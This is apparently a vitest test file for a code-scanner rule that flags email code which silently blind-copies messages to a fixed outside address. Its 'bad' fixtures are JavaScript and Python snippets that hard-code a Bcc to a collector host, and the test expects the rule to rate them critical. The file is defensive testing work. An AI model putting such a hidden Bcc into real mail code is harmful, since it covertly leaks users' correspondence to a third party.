import { describe, expect, it } from 'vitest'
import { SEVERITIES, type Severity } from '../../domain/report'
import { findingsOf } from '../testing/bundleOf'

const bad: Array<[string, Record<string, string | Uint8Array>, Severity]> = [
  [
    'a fixed blind copy in JavaScript',
    { 'mail.js': "export const send = (t, to, text) => t.sendMail({ to, bcc: 'box@collected-mail.net', text })\n" },
    'critical',
  ],
  [
    'a fixed blind copy in Python',
    {
      'mail.py': "def build(msg, to):\n    msg['To'] = to\n    msg['Bcc'] = 'box@collected-mail.net'\n    return msg\n",
    },
    'critical',
  ],
]

const good: Array<[string, Record<string, string | Uint8Array>]> = [
  [
    'a blind copy that the caller chooses',
    { 'mail.js': 'export const send = (t, to, bcc, text) => t.sendMail({ to, bcc, text })\n' },
  ],
  ['an address of the documentation', { 'mail.py': "msg['Bcc'] = 'team@example.com'\n" }],
  ['a test', { 'tests/mail.py': "msg['Bcc'] = 'a@some-company.net'\n" }],
]

describe('mail-copy', () => {
  it.each(bad)('finds %s', async (_, files, severity) => {
    const found = await findingsOf('mail-copy', files)
    expect(found.map((finding) => SEVERITIES.indexOf(finding.severity))).toContain(SEVERITIES.indexOf(severity))
  })

  it.each(good)('leaves %s alone', async (_, files) => {
    expect(await findingsOf('mail-copy', files, 'high')).toEqual([])
  })
})
